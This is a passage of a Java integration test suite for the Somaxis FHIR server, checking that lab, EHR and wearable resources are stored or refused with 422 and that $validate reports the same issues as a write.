package org.somaxis.conformance;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.Encounter;
import org.hl7.fhir.r4.model.Observation;
import org.hl7.fhir.r4.model.OperationOutcome;
import org.hl7.fhir.r4.model.OperationOutcome.IssueSeverity;
import org.hl7.fhir.r4.model.Patient;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.somaxis.SomaxisApplication;
import org.somaxis.support.FhirHttp;
import org.somaxis.support.FhirHttp.Response;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * Real-world intake, on every database: what real EHR exports and wearables send (US Core profiles the server does
 * not hold, generator extensions, wearable categories, conditional references into a batch loaded earlier, a
 * transaction of more than 5,000 entries) is accepted; what breaks one of our profiles is refused with 422, and
 * {@code $validate} says exactly what a write would. The suite's own FHIR package (built by {@link TestPackage},
 * nothing downloaded) is listed in {@code somaxis.conformance.packages}. Run on H2 ({@code IntakeH2IT}) and on
 * PostgreSQL ({@code IntakePostgresIT}) with the default request size limit, over real HTTP.
 */
@SpringBootTest(
		classes = SomaxisApplication.class,
		webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		properties = {
			"somaxis.demo.enabled=false",
			// reindex and bulk export jobs advance once per maintenance pass (5 s shipped): 1 s keeps their ITs to seconds
			"somaxis.fhir.job-maintenance-interval=1s"
		})
public abstract class IntakeContract {
	static final String FIXTURES = "src/test/resources/intake/";
	static final String TEST_SYSTEM = "http://somaxis.org/fhir/sid/intake-test";

	@LocalServerPort
	int serverPort;

	@Autowired
	List<ExtraPackages.ExtraPackage> extraPackages;

	@Autowired
	ca.uhn.fhir.jpa.packages.IPackageInstallerSvc packageInstallerSvc;

	@Autowired
	ca.uhn.fhir.jpa.packages.IHapiPackageCacheManager packageCache;

	@Autowired
	ca.uhn.fhir.jpa.api.dao.DaoRegistry daoRegistry;

	@Autowired
	javax.sql.DataSource dataSource;

	FhirHttp fhir;

	@BeforeEach
	void intakeClient() {
		fhir = new FhirHttp(serverPort);
	}

	@DynamicPropertySource
	static void testPackage(DynamicPropertyRegistry registry) {
		Path folder = Path.of("target", "test-packages", UUID.randomUUID().toString());
		TestPackage.write(folder);
		registry.add("somaxis.conformance.packages", folder::toString);
	}

	// ---- accepted as real systems send it ----

	@Test
	public void usCorePatientWithGeneratorExtensions_isStoredWithAWarningNamingTheUnheldProfile() {
		String patient = fixture("Patient-us-core-generator.json", UUID.randomUUID().toString());

		Response created = fhir.post("/fhir/Patient", patient, FhirHttp.FHIR_JSON);
		assertThat(created.status()).as(created.body()).isEqualTo(201);
		assertThat(created.header(ConformanceRestInterceptor.WARNINGS_HEADER)).isNotNull();

		Response withOutcome = fhir.post("/fhir/Patient", patient, FhirHttp.FHIR_JSON, "Prefer", "return=OperationOutcome");
		assertThat(withOutcome.status()).isEqualTo(201);
		OperationOutcome outcome = withOutcome.as(OperationOutcome.class);
		assertThat(outcome.getIssue()).noneMatch(issue -> issue.getSeverity() == IssueSeverity.ERROR);
		assertThat(outcome.getIssue()).anySatisfy(issue -> {
			assertThat(issue.getSeverity()).isEqualTo(IssueSeverity.WARNING);
			assertThat(issue.getDiagnostics()).contains("http://hl7.org/fhir/us/core/StructureDefinition/us-core-patient");
		});
	}

	/**
	 * A UK laboratory's results as its feed sends them: a UK Core profile Somaxis does not hold, SI units with the litre
	 * written l (UCUM's other symbol for it), IGF-1 in nmol/l with the lab's range, HbA1c by the IFCC protocol in mmol/mol
	 * (59261-8), fasting glucose under 14771-0, insulin in pmol/L. Before, the transaction was refused whole (422 on the
	 * units) while $evaluate read the same values inline, and the HbA1c and glucose were not read at all. Now all are
	 * stored, and the patient's own $evaluate reads them from the store (HOMA-IR from the glucose and insulin pair).
	 */
	/**
	 * A reference lab's interface sends an IGF-1 beyond the assay's range as text (">1000", flagged H, the range as text)
	 * and one dated only by its release (`issued`), beside the patient's sermorelin order: valid R4, stored with warnings
	 * igf1-4 and igf1-3, and the patient's $evaluate names both. Before, the transaction was refused whole with 422 and the
	 * order was lost with it (probe 43, M6).
	 */
	@Test
	public void referenceLabIgf1Shapes_areStoredWithWarnings_andNamedAtEvaluation() {
		Patient adult = newPatientResource();
		adult.setBirthDateElement(new org.hl7.fhir.r4.model.DateType("1975-02-11"));
		String patientId = created(fhir.postResource("/fhir/Patient", adult));

		Response posted = fhir.post("/fhir", fixture("Bundle-reference-lab-igf1-shapes.json", patientId), FhirHttp.FHIR_JSON,
				"Prefer", "return=OperationOutcome");

		assertThat(posted.status()).as(posted.body()).isEqualTo(200);
		List<Bundle.BundleEntryComponent> entries = posted.as(Bundle.class).getEntry();
		assertThat(entries).hasSize(3).allSatisfy(entry -> assertThat(entry.getResponse().getStatus()).startsWith("201"));
		assertThat(entries.get(1).getResponse().getOutcome()).isInstanceOf(OperationOutcome.class);
		assertThat(((OperationOutcome) entries.get(1).getResponse().getOutcome()).getIssue())
				.anySatisfy(issue -> assertThat(issue.getDiagnostics()).contains("igf1-4"));
		assertThat(((OperationOutcome) entries.get(2).getResponse().getOutcome()).getIssue())
				.anySatisfy(issue -> assertThat(issue.getDiagnostics()).contains("igf1-3"));
		Response evaluated = fhir.post("/fhir/Patient/" + patientId + "/$evaluate",
				"{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"evaluationDate\",\"valueDate\":\"2026-12-06\"}]}",
				FhirHttp.FHIR_JSON);
		assertThat(evaluated.status()).as(evaluated.body()).isEqualTo(200);
		assertThat(evaluated.body()).contains("has no numeric value").contains("has no effective date");
	}

	@Test
	public void ukLaboratoryTransaction_inSiUnits_isStored_andThePatientsEvaluateReadsIt() {
		Patient adult = newPatientResource();
		adult.setBirthDateElement(new org.hl7.fhir.r4.model.DateType("1971-04-02"));
		String patientId = created(fhir.postResource("/fhir/Patient", adult));

		Response posted = fhir.post("/fhir", fixture("Bundle-uk-lab-si-units.json", patientId), FhirHttp.FHIR_JSON);

		assertThat(posted.status()).as(posted.body()).isEqualTo(200);
		assertThat(posted.as(Bundle.class).getEntry()).hasSize(4)
				.allSatisfy(entry -> assertThat(entry.getResponse().getStatus()).startsWith("201"));
		Response evaluated = fhir.post("/fhir/Patient/" + patientId + "/$evaluate",
				"{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"evaluationDate\",\"valueDate\":\"2026-12-06\"}]}",
				FhirHttp.FHIR_JSON);
		assertThat(evaluated.status()).as(evaluated.body()).isEqualTo(200);
		assertThat(evaluated.body()).contains("insulin-sensitivity-lifestyle").contains("HOMA-IR 4.93") // 133.2 mg/dL x 15 uIU/mL / 405
				.doesNotContain("has unit");
		// the IFCC HbA1c is a result the guidance reads (before: 422, "neither an IGF-1 nor a metabolic result")
		String hba1c = posted.as(Bundle.class).getEntry().get(1).getResponse().getLocation().replaceAll("/_history/.*$", "");
		Response oneResult = fhir.get("/fhir/" + hba1c + "/$evaluate");
		assertThat(oneResult.status()).as(oneResult.body()).isEqualTo(200);
	}

	/**
	 * An International Patient Summary, a document Bundle: POSTed to the base, it is refused (400) with what the base
	 * takes and how its entries can be read; POSTed to /fhir/Bundle, it is stored whole, as R4 allows, with a warning that
	 * its entries (here a breast cancer) are read by no search and no guidance. Before, the first answer named only the
	 * type, and the second stored it without a word (EU probe EU-9).
	 */
	@Test
	public void ipsDocument_isRefusedAtTheBaseSayingWhy_andStoredWholeAsABundleWithAWarning() {
		String document = fixture("Bundle-ips-document.json", "unused");

		Response atTheBase = fhir.post("/fhir", document, FhirHttp.FHIR_JSON);
		Response asABundle = fhir.post("/fhir/Bundle", document, FhirHttp.FHIR_JSON, "Prefer", "return=OperationOutcome");
		// answered with the Bundle stored, the warnings are counted in the header, as for any single write (probe 63, P63-m6)
		Response represented = fhir.post("/fhir/Bundle", document, FhirHttp.FHIR_JSON, "Prefer", "return=representation");

		assertThat(atTheBase.status()).as(atTheBase.body()).isEqualTo(400);
		assertThat(atTheBase.as(OperationOutcome.class).getIssueFirstRep().getDiagnostics())
				.contains("transaction or batch, not document").contains("$evaluate");
		assertThat(asABundle.status()).as(asABundle.body()).isEqualTo(201);
		assertThat(asABundle.as(OperationOutcome.class).getIssue()).anySatisfy(issue -> {
			assertThat(issue.getSeverity()).isEqualTo(IssueSeverity.WARNING);
			assertThat(issue.getDiagnostics()).contains("entries do not become resources of their own");
		});
		// a search's answer is stored nowhere: the base does not send it to /fhir/Bundle, which refuses it (P63-m7)
		Response searchset = fhir.post("/fhir", "{\"resourceType\":\"Bundle\",\"type\":\"searchset\"}", FhirHttp.FHIR_JSON);
		assertThat(searchset.status()).isEqualTo(400);
		assertThat(searchset.as(OperationOutcome.class).getIssueFirstRep().getDiagnostics())
				.contains("a server's answer to a search").doesNotContain("it would be stored");
		assertThat(represented.status()).as(represented.body()).isEqualTo(201);
		assertThat(represented.header(ConformanceRestInterceptor.WARNINGS_HEADER)).isNotNull()
				.isEqualTo(asABundle.header(ConformanceRestInterceptor.WARNINGS_HEADER));
	}

	/**
	 * A collection Bundle stored whole is held to the value checks its entries would meet on their own, as $validate
	 * holds it: a birth date with a time, a boolean in quotes. Before, POST /fhir/Bundle stored them (the quoted boolean
	 * made a real one) while $validate named three errors (probe 63, P63-M1).
	 */
	@Test
	public void bundleStoredWhole_withAnEntryValueNotOfItsForm_isRefusedAsValidateSays() {
		String collection = """
				{"resourceType":"Bundle","type":"collection","entry":[{"fullUrl":"urn:uuid:55555555-0000-4000-8000-000000000001",
				 "resource":{"resourceType":"Patient","birthDate":"2019-04-02T09:30:00","active":"true",
				             "name":[{"family":"Coll"}]}}]}""";

		Response stored = fhir.post("/fhir/Bundle", collection, FhirHttp.FHIR_JSON);
		Response validated = fhir.post("/fhir/Bundle/$validate", collection, FhirHttp.FHIR_JSON);

		assertThat(stored.status()).as(stored.body()).isEqualTo(422);
		List<String> refused = stored.as(OperationOutcome.class).getIssue().stream()
				.filter(issue -> issue.getSeverity() == IssueSeverity.ERROR)
				.flatMap(issue -> issue.getExpression().stream().map(org.hl7.fhir.r4.model.StringType::getValue)).sorted().toList();
		List<String> named = validated.as(OperationOutcome.class).getIssue().stream()
				.filter(issue -> issue.getSeverity() == IssueSeverity.ERROR)
				.flatMap(issue -> issue.getExpression().stream().map(org.hl7.fhir.r4.model.StringType::getValue)).sorted().toList();
		assertThat(refused).contains("Bundle.entry[0].resource.ofType(Patient).birthDate",
				"Bundle.entry[0].resource.ofType(Patient).active").isEqualTo(named);
	}

	/**
	 * A peptide order whose subject is only the patient's MRN, as pharmacy and e-prescribing feeds send it: valid R4, so
	 * stored, but linked to no Patient, so the patient's searches and the guidance never see it. Before, it was stored
	 * without a word (and a cancer beside it drew nothing on the store's faces); now the write and $validate warn.
	 */
	@Test
	public void orderWhoseSubjectIsOnlyAnIdentifier_isStoredWithAWarning_andValidateSaysTheSame() {
		String order = """
				{"resourceType":"MedicationRequest","status":"active","intent":"order",
				 "medicationCodeableConcept":{"text":"Tesamorelin 2 mg"},
				 "subject":{"identifier":{"system":"http://hospital.example.org/mrn","value":"MRN-00412"}}}""";

		Response created = fhir.post("/fhir/MedicationRequest", order, FhirHttp.FHIR_JSON, "Prefer", "return=OperationOutcome");
		Response validated = fhir.post("/fhir/MedicationRequest/$validate", order, FhirHttp.FHIR_JSON);

		assertThat(created.status()).as(created.body()).isEqualTo(201);
		for (Response response : List.of(created, validated)) {
			assertThat(response.as(OperationOutcome.class).getIssue()).anySatisfy(issue -> {
				assertThat(issue.getSeverity()).isEqualTo(IssueSeverity.WARNING);
				assertThat(issue.getDiagnostics()).contains("subject names the patient only by identifier");
			});
		}
	}

	/**
	 * Two profiles the server does not hold, the IPS one first: HAPI sorts {@code meta.profile} before a write is
	 * stored, so the write's warnings named US Core at [0] and IPS at [1], where $validate named them as sent.
	 */
	@Test
	public void unheldProfiles_areNamedAtTheIndexTheyWereSentAt_byTheWriteAsByValidate() {
		String allergy = """
				{"resourceType":"AllergyIntolerance","meta":{"profile":[
				  "http://hl7.org/fhir/uv/ips/StructureDefinition/AllergyIntolerance-uv-ips",
				  "http://hl7.org/fhir/us/core/StructureDefinition/us-core-allergyintolerance"]},
				 "clinicalStatus":{"coding":[{"system":"http://terminology.hl7.org/CodeSystem/allergyintolerance-clinical","code":"active"}]},
				 "code":{"text":"latex"},"patient":{"reference":"Patient/%s"}}""".formatted(newPatient());
		String id = UUID.randomUUID().toString();
		String withId = allergy.replaceFirst("\\{\"resourceType\":\"AllergyIntolerance\",",
				"{\"resourceType\":\"AllergyIntolerance\",\"id\":\"" + id + "\",");

		List<Response> answers = List.of(
				fhir.post("/fhir/AllergyIntolerance", allergy, FhirHttp.FHIR_JSON, "Prefer", "return=OperationOutcome"),
				fhir.put("/fhir/AllergyIntolerance/" + id, withId, FhirHttp.FHIR_JSON, "Prefer", "return=OperationOutcome"),
				fhir.post("/fhir/AllergyIntolerance/$validate", allergy, FhirHttp.FHIR_JSON));

		for (Response answer : answers) {
			assertThat(answer.status()).as(answer.body()).isIn(200, 201);
			List<String> located = answer.as(OperationOutcome.class).getIssue().stream()
					.filter(issue -> issue.getSeverity() == IssueSeverity.WARNING)
					.map(issue -> issue.getExpression().get(0).getValue() + " " + issue.getDiagnostics().split(" ")[1])
					.toList();
			assertThat(located).as(answer.body()).containsExactly(
					"AllergyIntolerance.meta.profile[0] http://hl7.org/fhir/uv/ips/StructureDefinition/AllergyIntolerance-uv-ips",
					"AllergyIntolerance.meta.profile[1] http://hl7.org/fhir/us/core/StructureDefinition/us-core-allergyintolerance");
		}
	}

	@Test
	public void wearableSleepAndExerciseObservations_inWearableCategories_areStoredWithTheInferredProfiles() {
		String patientId = newPatient();
		for (String file : List.of("Observation-sleep-wearable.json", "Observation-exercise-wearable.json")) {
			Response created = fhir.post("/fhir/Observation", fixture(file, patientId), FhirHttp.FHIR_JSON);
			assertThat(created.status()).as(file + ": " + created.body()).isEqualTo(201);
			Observation stored = fhir.get(location(created)).as(Observation.class);
			assertThat(stored.getMeta().getProfile()).extracting(p -> p.getValue())
					.containsAnyOf(ProfileInference.SLEEP, ProfileInference.EXERCISE);
		}
	}

	// ---- refused, and $validate agrees ----

	/**
	 * A conditional reference only the write resolves: $validate warns at its element that the write answers 404 or 412,
	 * instead of "No issues" (probe 63, P63-M2).
	 */
	@Test
	public void conditionalReference_isAWarningOfValidate_namingWhatTheWriteDoes() {
		String condition = "{\"resourceType\":\"Condition\",\"code\":{\"text\":\"x\"},"
				+ "\"subject\":{\"reference\":\"Patient?identifier=http://nope.example.org|NOPE-" + UUID.randomUUID() + "\"}}";

		OperationOutcome validated = fhir.post("/fhir/Condition/$validate", condition, FhirHttp.FHIR_JSON)
				.as(OperationOutcome.class);

		assertThat(errors(validated)).isEmpty();
		assertThat(validated.getIssue()).anySatisfy(issue -> {
			assertThat(issue.getSeverity()).isEqualTo(IssueSeverity.WARNING);
			assertThat(issue.getDiagnostics()).contains("is resolved only when the resource is written").contains("404");
			assertThat(issue.getExpression()).extracting(org.hl7.fhir.r4.model.StringType::getValue)
					.contains("Condition.subject");
		});
		assertThat(fhir.post("/fhir/Condition", condition, FhirHttp.FHIR_JSON).status()).isEqualTo(404);
		// also inside a contained resource, which the write resolves too (probe 64, P64-M5)
		String contained = "{\"resourceType\":\"Condition\",\"code\":{\"text\":\"x\"},\"subject\":{\"reference\":\"Patient/"
				+ newPatient() + "\"},\"evidence\":[{\"detail\":[{\"reference\":\"#o1\"}]}],\"contained\":[{\"resourceType\":"
				+ "\"Observation\",\"id\":\"o1\",\"status\":\"final\",\"code\":{\"text\":\"x\"},\"subject\":{\"reference\":"
				+ "\"Patient?identifier=http://nope.example.org|NOPE-" + UUID.randomUUID() + "\"}}]}";
		OperationOutcome inContained = fhir.post("/fhir/Condition/$validate", contained, FhirHttp.FHIR_JSON)
				.as(OperationOutcome.class);
		assertThat(inContained.getIssue()).anySatisfy(issue -> {
			assertThat(issue.getSeverity()).isEqualTo(IssueSeverity.WARNING);
			assertThat(issue.getDiagnostics()).contains("is resolved only when the resource is written");
		});
		assertThat(fhir.post("/fhir/Condition", contained, FhirHttp.FHIR_JSON).status()).isEqualTo(404);
	}

	/**
	 * References the storage refuses on a write, a type its element does not allow (422) and a resource that does not
	 * exist (400): HAPI's $validate said "no issues" of both. It names each now, at its element.
	 */
	@Test
	public void referencesTheWriteRefuses_areErrorsOfValidateToo() {
		String patient = newPatient();
		String observation = created(fhir.post("/fhir/Observation", "{\"resourceType\":\"Observation\",\"status\":\"final\","
				+ "\"code\":{\"text\":\"note\"},\"subject\":{\"reference\":\"Patient/" + patient + "\"}}", FhirHttp.FHIR_JSON));
		String condition = "{\"resourceType\":\"Condition\",\"code\":{\"text\":\"x\"},\"subject\":{\"reference\":\"%s\"}}";

		String wrongType = condition.formatted("Observation/" + observation);
		Response refused = fhir.post("/fhir/Condition", wrongType, FhirHttp.FHIR_JSON);
		assertThat(refused.status()).isEqualTo(422);
		assertThat(errors(fhir.post("/fhir/Condition/$validate", wrongType, FhirHttp.FHIR_JSON).as(OperationOutcome.class)))
				.singleElement().asString().contains("Condition.subject").contains("Resource type 'Observation' is not valid")
				// the write says the same at the same place (it gave HAPI-0931 with no location: probe 55, P55-m3)
				.isEqualTo(errors(refused.as(OperationOutcome.class)).get(0));
		String missing = condition.formatted("Patient/no-such-patient-" + patient);
		assertThat(fhir.post("/fhir/Condition", missing, FhirHttp.FHIR_JSON).status()).isEqualTo(400);
		assertThat(errors(fhir.post("/fhir/Condition/$validate", missing, FhirHttp.FHIR_JSON).as(OperationOutcome.class)))
				.singleElement().asString().contains("not found, specified in path: Condition.subject");
		String good = condition.formatted("Patient/" + patient);
		assertThat(errors(fhir.post("/fhir/Condition/$validate", good, FhirHttp.FHIR_JSON).as(OperationOutcome.class))).isEmpty();
		assertThat(fhir.post("/fhir/Condition", good, FhirHttp.FHIR_JSON).status()).isEqualTo(201);
		// a reference no search parameter indexes is not checked by the storage: $validate does not check it either
		String contact = "{\"resourceType\":\"Patient\",\"contact\":[{\"organization\":{\"reference\":"
				+ "\"Organization/no-such-organization-" + patient + "\"}}]}";
		assertThat(errors(fhir.post("/fhir/Patient/$validate", contact, FhirHttp.FHIR_JSON).as(OperationOutcome.class))).isEmpty();
		assertThat(fhir.post("/fhir/Patient", contact, FhirHttp.FHIR_JSON).status()).isEqualTo(201);
	}

	/**
	 * A reference R4 itself does not allow at an element our profile constrains too (an IGF-1 about an Observation): one
	 * error, the profile's, from {@code $validate} and the write alike; {@code $validate} gave two (probe 55, P55-m3).
	 */
	@Test
	public void aReferenceOfATypeNeitherR4NorTheProfileAllows_isOneErrorOnBothPaths() {
		String patient = newPatient();
		String observation = created(fhir.post("/fhir/Observation", "{\"resourceType\":\"Observation\",\"status\":\"final\","
				+ "\"code\":{\"text\":\"note\"},\"subject\":{\"reference\":\"Patient/" + patient + "\"}}", FhirHttp.FHIR_JSON));
		String igf1 = fixture("Observation-igf1-us-core-lab.json", patient).replace("Patient/" + patient, "Observation/" + observation);

		List<String> validated = errors(fhir.post("/fhir/Observation/$validate", igf1, FhirHttp.FHIR_JSON).as(OperationOutcome.class));
		Response refused = fhir.post("/fhir/Observation", igf1, FhirHttp.FHIR_JSON);

		assertThat(refused.status()).isEqualTo(422);
		assertThat(validated).singleElement().asString().startsWith("[Observation.subject]").contains("igf1-observation");
		assertThat(errors(refused.as(OperationOutcome.class))).isEqualTo(validated);
	}

	/**
	 * The same in a transaction: one error, at the entry's element, and nothing stored. It gave two, the located one and
	 * HAPI's HAPI-0931 at no place (probe 57, P57-m2).
	 */
	@Test
	public void aReferenceOfATypeR4DoesNotAllow_inATransaction_isOneErrorAtTheEntrysElement() {
		String patient = newPatient();
		String observation = created(fhir.post("/fhir/Observation", "{\"resourceType\":\"Observation\",\"status\":\"final\","
				+ "\"code\":{\"text\":\"note\"},\"subject\":{\"reference\":\"Patient/" + patient + "\"}}", FhirHttp.FHIR_JSON));
		String transaction = "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[{\"resource\":"
				+ "{\"resourceType\":\"Condition\",\"code\":{\"text\":\"x\"},\"subject\":{\"reference\":\"Observation/"
				+ observation + "\"}},\"request\":{\"method\":\"POST\",\"url\":\"Condition\"}}]}";

		Response refused = fhir.post("/fhir", transaction, FhirHttp.FHIR_JSON);

		assertThat(refused.status()).isEqualTo(422);
		assertThat(errors(refused.as(OperationOutcome.class))).singleElement().asString()
				.startsWith("[Bundle.entry[0].resource.ofType(Condition).subject]");
	}

	/**
	 * A null variant of a choice element beside the variant with the value, as exports write "absent": refused with 422
	 * "repeats" before (and read leniently, the value was dropped). Stored with its value.
	 */
	@Test
	public void aNullChoiceVariantBesideTheOneWithTheValue_isStoredWithTheValue() {
		String condition = "{\"resourceType\":\"Condition\",\"code\":{\"text\":\"asthma\"},\"subject\":{\"reference\":"
				+ "\"Patient/" + newPatient() + "\"},\"onsetDateTime\":null,\"onsetString\":\"childhood\",\"abatementAge\":null}";

		Response created = fhir.post("/fhir/Condition", condition, FhirHttp.FHIR_JSON);

		assertThat(created.status()).as(created.body()).isEqualTo(201);
		assertThat(fhir.get("/fhir/Condition/" + created(created)).as(org.hl7.fhir.r4.model.Condition.class)
				.getOnsetStringType().getValue()).isEqualTo("childhood");
		// nulls side by side at an object's end, and an object of nulls only: absent, as before
		assertThat(fhir.post("/fhir/Patient", "{\"resourceType\":\"Patient\",\"active\":true,\"gender\":null,"
				+ "\"birthDate\":null,\"name\":[{\"family\":\"Null\",\"given\":null,\"_given\":null}]}", FhirHttp.FHIR_JSON)
				.status()).isEqualTo(201);
		assertThat(fhir.post("/fhir/Condition", condition.replace("\"text\":\"asthma\"", "\"text\":null"), FhirHttp.FHIR_JSON)
				.status()).isEqualTo(201);
	}

	/** A resource of another type than the URL names: HAPI's $validate said "no issues" where the write got 400. */
	@Test
	public void aResourceOfAnotherType_isRefusedByValidateAsByTheWrite() {
		String igf1 = fixture("Observation-igf1-us-core-lab-mgdl.json", newPatient());

		Response written = fhir.post("/fhir/Patient", igf1, FhirHttp.FHIR_JSON);
		Response validated = fhir.post("/fhir/Patient/$validate", igf1, FhirHttp.FHIR_JSON);

		assertThat(written.status()).as(written.body()).isEqualTo(400);
		assertThat(validated.status()).as(validated.body()).isEqualTo(400);
		assertThat(validated.as(OperationOutcome.class).getIssueFirstRep().getDiagnostics())
				.startsWith("$validate on Patient got a Observation");
	}

	@Test
	public void igf1BreakingOurProfile_isRefusedAlsoWhenItDeclaresUsCore_andValidateReportsTheSameErrors() {
		String igf1 = fixture("Observation-igf1-us-core-lab-mgdl.json", newPatient());

		Response written = fhir.post("/fhir/Observation", igf1, FhirHttp.FHIR_JSON);
		assertThat(written.status()).isEqualTo(422);
		List<String> writeErrors = errors(written.as(OperationOutcome.class));
		assertThat(writeErrors).anySatisfy(error -> assertThat(error).contains("igf1-1"));
		assertThat(written.as(OperationOutcome.class).getIssue()).anySatisfy(issue -> {
			assertThat(issue.getSeverity()).isEqualTo(IssueSeverity.WARNING);
			assertThat(issue.getDiagnostics()).contains("us-core-observation-lab");
		});

		Response validated = validate("Observation", igf1, null, null);
		assertThat(validated.status()).isEqualTo(200);
		assertThat(errors(validated.as(OperationOutcome.class))).containsExactlyInAnyOrderElementsOf(writeErrors);
	}

	/**
	 * A resource that one of our profiles covers, sent as XML (create and update): validated as the same resource in
	 * JSON is. Before, every such XML write was a 500, because the validator took only JSON.
	 */
	@Test
	public void profiledResourceSentAsXml_isValidatedLikeJson_storedWhenGood_refusedWith422WhenBad() {
		String patientId = newPatient();
		ca.uhn.fhir.parser.IParser xml = FhirHttp.FHIR.newXmlParser();
		String good = xml.encodeResourceToString(FhirHttp.FHIR.newJsonParser().parseResource(
				fixture("Observation-igf1-us-core-lab.json", patientId)));
		String bad = xml.encodeResourceToString(FhirHttp.FHIR.newJsonParser().parseResource(
				fixture("Observation-igf1-us-core-lab-mgdl.json", patientId)));

		Response created = fhir.post("/fhir/Observation", good, "application/fhir+xml");
		assertThat(created.status()).as(created.body()).isEqualTo(201);
		Response refused = fhir.post("/fhir/Observation", bad, "application/fhir+xml");
		assertThat(refused.status()).as(refused.body()).isEqualTo(422);
		assertThat(errors(refused.as(OperationOutcome.class))).anySatisfy(error -> assertThat(error).contains("igf1-1"));

		String id = location(created).replaceAll(".*/Observation/([^/]+).*", "$1");
		org.hl7.fhir.instance.model.api.IBaseResource update = FhirHttp.FHIR.newJsonParser().parseResource(
				fixture("Observation-igf1-us-core-lab.json", patientId));
		update.setId(id);
		Response updated = fhir.put("/fhir/Observation/" + id, xml.encodeResourceToString(update), "application/fhir+xml");
		assertThat(updated.status()).as(updated.body()).isEqualTo(200);
	}

	/**
	 * Sleep and exercise Observations in the shapes wearables, patient apps and the HL7 Physical Activity IG send them
	 * (the table of {@link ActivityObservationShapesTest}): each valid one is stored (201), with the warning of our
	 * profiles the table names in the write's OperationOutcome and in {@code $validate}'s; each that contradicts what
	 * it means is refused with 422, and {@code $validate} gives exactly the write's errors.
	 */
	@ParameterizedTest(name = "{0}: {1} {2}")
	@CsvSource(delimiter = '|', textBlock = ActivityObservationShapesTest.SHAPES)
	public void activityShape_isStoredUnlessItContradictsWhatItMeans_andValidateAgrees(
			String file, String outcome, String expected) {
		String body = fixture("activity/" + file, newPatient());

		Response written = fhir.post("/fhir/Observation", body, FhirHttp.FHIR_JSON, "Prefer", "return=OperationOutcome");
		Response validated = validate("Observation", body, null, null);

		assertThat(validated.status()).as(validated.body()).isEqualTo(200);
		OperationOutcome validateOutcome = validated.as(OperationOutcome.class);
		if (outcome.equals("accepted")) {
			assertThat(written.status()).as(file + ": " + written.body()).isEqualTo(201);
			assertThat(errors(validateOutcome)).as(file).isEmpty();
			if (!expected.equals("-")) {
				for (OperationOutcome answer : List.of(written.as(OperationOutcome.class), validateOutcome)) {
					assertThat(answer.getIssue()).as(file).anySatisfy(issue -> {
						assertThat(issue.getSeverity()).isEqualTo(IssueSeverity.WARNING);
						assertThat(issue.getDiagnostics()).contains(expected + ":");
					});
				}
			}
		} else {
			assertThat(written.status()).as(file + ": " + written.body()).isEqualTo(422);
			List<String> writeErrors = errors(written.as(OperationOutcome.class));
			assertThat(writeErrors).anySatisfy(error -> assertThat(error).contains(expected));
			assertThat(errors(validateOutcome)).as(file).containsExactlyInAnyOrderElementsOf(writeErrors);
		}
	}

	/**
	 * The HL7 Physical Activity IG's exercise panel with its members (activity type with effectiveDateTime, duration,
	 * moderate and vigorous minutes) and an IGF-1 in one transaction: stored whole. Before, the activity measure's
	 * effectiveDateTime refused the whole transaction, the IGF-1 with it.
	 */
	@Test
	public void physicalActivityIgPanelWithItsMembers_isStoredWhole_withTheIgf1BesideIt() {
		String id = UUID.randomUUID().toString();
		Response stored = fhir.post("/fhir", fixture("activity/Bundle-pa-ig-exercise-panel-with-members.json", id),
				FhirHttp.FHIR_JSON);
		assertThat(stored.status()).as(stored.body()).isEqualTo(200);
		for (String observation : List.of(id + "-type", id + "-grp", id + "-igf1")) {
			assertThat(fhir.get("/fhir/Observation/" + observation).status()).as(observation).isEqualTo(200);
		}
		assertThat(fhir.get("/fhir/Observation/" + id + "-type").as(Observation.class).getMeta().getProfile())
				.extracting(p -> p.getValue()).contains(ProfileInference.EXERCISE);
	}

	/**
	 * A wearable export (a run with its mean heart rate in UCUM {beats}/min, a night's sleep in seconds) and an IGF-1 in
	 * one transaction: stored whole. Before, the heart rate's unit, which no rule reads, refused the whole transaction
	 * and the IGF-1 was lost with it.
	 */
	@Test
	public void wearableExportWithHeartRateInBeatsPerMinuteAndSleepInSeconds_isStoredWhole_withItsIgf1() {
		String id = UUID.randomUUID().toString();
		Response stored = fhir.post("/fhir", fixture("activity/Bundle-wearable-export-with-igf1.json", id),
				FhirHttp.FHIR_JSON);
		assertThat(stored.status()).as(stored.body()).isEqualTo(200);
		for (String observation : List.of(id + "-igf1", id + "-hk-run", id + "-hk-sleep")) {
			assertThat(fhir.get("/fhir/Observation/" + observation).status()).as(observation).isEqualTo(200);
		}
	}

	@Test
	public void validateAndWrite_agreeOnGoodAndBadResources() throws IOException {
		String patientId = newPatient();
		List<String[]> cases = new ArrayList<>();
		for (String file : List.of("Patient-us-core-generator.json", "Observation-sleep-wearable.json",
				"Observation-exercise-wearable.json", "Observation-igf1-us-core-lab.json",
				"Observation-igf1-us-core-lab-mgdl.json", "Condition-unknown-element.json",
				"MedicationRequest-tesamorelin-medication-list.json")) {
			cases.add(new String[] {file, fixture(file, file.startsWith("Patient") ? UUID.randomUUID().toString() : patientId)});
		}
		for (String file : List.of("invalid/Observation-igf1-bad-unit.json", "invalid/Observation-igf1-no-effective.json",
				"invalid/Observation-sleep-bad-unit.json", "MedicationRequest-gh-peptide-order-volume-dose.json")) {
			cases.add(new String[] {file, Files.readString(Path.of("examples/resources", file))
					.replace("Patient/example-adult-male", "Patient/" + patientId)});
		}
		int refused = 0;
		for (String[] testCase : cases) {
			String type = FhirHttp.FHIR.newJsonParser().parseResource(testCase[1]).fhirType();
			Response written = fhir.post("/fhir/" + type, testCase[1], FhirHttp.FHIR_JSON);
			Response validated = validate(type, testCase[1], null, null);
			assertThat(validated.status()).as(testCase[0]).isEqualTo(200);
